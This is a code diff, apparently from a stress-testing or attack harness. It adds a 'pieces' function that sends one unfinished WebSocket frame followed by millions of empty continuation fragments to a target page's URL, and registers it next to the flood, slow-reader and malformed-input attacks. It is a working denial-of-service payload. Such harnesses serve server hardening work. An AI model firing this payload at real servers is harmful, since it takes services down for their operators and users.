@@ -22,6 +22,7 @@ _A_SECOND = 10_000
 _FLOOD_S = 8.0
 _SLOW_READERS, _SLOW_S = 8, 8.0
 _RECONNECTS = 500
+_PIECES = 4_000_000
 
 
 @dataclass(frozen=True)
@@ -170,9 +171,15 @@ def malformed(page: TargetPage) -> int:
     return sent + 3
 
 
+def pieces(page: TargetPage) -> int:
+    """A message in millions of empty pieces."""
+    begin, piece, at_once = b"\x02\x80" + bytes(4), b"\x00\x80" + bytes(4), 50_000
+    return at_once * pour(page.url, [begin] + [piece * at_once] * (_PIECES // at_once))
+
+
 ATTACKS: dict[str, Callable[[TargetPage], int]] = {
     one.__name__: one
-    for one in (values, attributes, upload, flood, slow_readers, reconnects, malformed)
+    for one in (values, attributes, upload, flood, slow_readers, reconnects, malformed, pieces)
 }
 
 
